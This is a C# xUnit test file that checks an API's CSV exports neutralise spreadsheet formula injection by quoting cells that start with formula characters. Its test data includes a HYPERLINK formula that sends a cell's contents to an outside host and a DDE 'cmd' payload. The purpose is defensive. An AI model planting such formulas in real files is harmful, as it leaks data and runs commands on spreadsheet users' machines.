using System.Globalization;
using System.Text;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using Observatory.App.Http;
using Observatory.App.Limits;
using Observatory.App.Serving;
using Observatory.Core.Access;
using Observatory.Core.Normalising;
using Observatory.Core.Submissions;
using Observatory.Tests.Limits;
using Observatory.Tests.Support;
using Xunit;

namespace Observatory.Tests.Api;

/// <summary>Formulas that came with a file, in every table that is answered.</summary>
public sealed class FormulaTests
{
    private const string Planted = "=HYPERLINK(\"http://example.org/?x=\"&A1,\"total\")";

    [Fact]
    public async Task No_table_for_people_holds_a_formula_and_tables_for_programs_are_exact()
    {
        using var folder = new TemporaryFolder();
        SmallFeed.WriteTo(folder.Path);
        var mapping = folder["TST/small/mapping.yaml"];
        await File.WriteAllTextAsync(
            mapping,
            (await File.ReadAllTextAsync(mapping)).Replace(
                "  OBS_STATUS:",
                "  NOTE:        { column: note, verbatim: true }\n  OBS_STATUS:",
                StringComparison.Ordinal
            )
        );
        await using var server = await LimitedServer.StartAsync(new WebSettings { Rates = RateSettings.None }, folder.Path);
        string[] notes = [Planted, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1+1", "-5", "plain"];
        var loaded = await server.LoadAsync(File_(notes.Select((note, n) => ($"a,2020-{n + 1:00}", note))), "small.csv", SmallFeed.Name);
        Assert.Equal(SubmissionState.Loaded, loaded.State);
        var rejected = await server.LoadAsync(
            File_(notes.Select((note, n) => ($"\"{note.Replace("\"", "\"\"", StringComparison.Ordinal)}\",2021-{n + 1:00}", "plain"))),
            "small-2.csv",
            SmallFeed.Name
        );
        Assert.Equal(SubmissionState.Rejected, rejected.State);

        var questions = new Dictionary<string, string>
        {
            ["/v1/observations"] = "/v1/observations?indicator=HOM_INC&area=MX-AGU&freq=M&labels=both",
            ["/v1/revisions"] = "/v1/revisions?indicator=HOM_INC&area=MX-AGU",
            ["/v1/coverage"] = "/v1/coverage?indicator=HOM_INC",
            ["/v1/submissions/{id}/findings"] = $"/v1/submissions/{rejected.SubmissionId}/findings?by=cell",
        };
        // An address that answers tables and is not asked here fails.
        var tables = server
            .Services.GetRequiredService<EndpointDataSource>()
            .Endpoints.OfType<RouteEndpoint>()
            .Where(e =>
                e.Metadata.OfType<QueryParameter>().Any(p => p.Name == "format" && p.Description.Contains("csv", StringComparison.Ordinal))
            )
            .Select(e => e.RoutePattern.RawText!);
        Assert.Equal(questions.Keys.Order(StringComparer.Ordinal), tables.Order(StringComparer.Ordinal));
        questions["by cause"] = $"/v1/submissions/{rejected.SubmissionId}/findings?by=cause";

        var client = server.Client(await server.KeyAsync(Role.Editor, Actor.ObservatoryOffice));
        var planted = 0;
        foreach (var question in questions.Values)
        {
            var (people, programs) = (
                await client.GetByteArrayAsync($"{question}&format=csv"),
                await client.GetByteArrayAsync($"{question}&format=csv&bom=false")
            );
            Assert.Equal(Encoding.UTF8.GetPreamble(), people[..3]);
            var (shown, exact) = (FieldsOf(people), FieldsOf(programs));
            Assert.NotEmpty(exact);
            Assert.Equal(exact.Select(FormulaText.Harmless), shown);
            Assert.DoesNotContain(shown, f => f.StartsWith('=') || f.StartsWith('@') || f.StartsWith('+') || f.StartsWith('＝'));
            planted += exact.Count(f => f == Planted);
        }
        Assert.True(planted >= 2, $"The formula stands in {planted} fields.");
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+A1", "'+A1")]
    [InlineData("-A1", "'-A1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("\n=1", "'\n=1")]
    [InlineData("\0=1", "'\0=1")]
    [InlineData("＝1", "'＝1")]
    [InlineData("＋1", "'＋1")]
    [InlineData("－1", "'－1")]
    [InlineData("＠1", "'＠1")]
    [InlineData("-1", "-1")]
    [InlineData("-0.005", "-0.005")]
    [InlineData("+7", "+7")]
    [InlineData("-1e-7", "-1e-7")]
    [InlineData("-1-1", "'-1-1")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    public void A_text_that_would_be_a_formula_gets_a_quote_and_a_number_stays_one(string text, string harmless) =>
        Assert.Equal(harmless, FormulaText.Harmless(text));

    private static byte[] File_(IEnumerable<(string Cells, string Note)> rows) =>
        Encoding.UTF8.GetBytes(
            "area,period,what,value,note\n"
                + string.Concat(rows.Select(r => $"{r.Cells},hom,5,\"{r.Note.Replace("\"", "\"\"", StringComparison.Ordinal)}\"\n"))
        );

    private static List<string> FieldsOf(byte[] content)
    {
        using var text = new StreamReader(new MemoryStream(content), new UTF8Encoding(false));
        using var csv = new CsvParser(text, new CsvConfiguration(CultureInfo.InvariantCulture) { NewLine = "\n" });
        var fields = new List<string>();
        while (csv.Read())
            fields.AddRange(csv.Record!);
        return fields;
    }
}
